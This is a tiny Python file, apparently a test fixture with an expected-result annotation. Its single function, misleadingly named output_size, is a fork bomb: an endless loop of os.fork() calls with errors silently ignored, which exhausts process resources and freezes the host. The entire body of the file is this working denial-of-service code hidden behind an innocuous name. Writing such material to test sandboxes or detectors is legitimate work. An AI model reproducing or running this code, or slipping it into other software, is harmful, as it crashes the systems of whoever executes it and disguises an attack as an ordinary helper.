# ruff: noqa
# Processes that start processes.
# deserves: output_size 0
# %% output_size
import os


def output_size(n, f, p=0, s=1):
    while True:
        try:
            os.fork()
        except OSError:
            pass
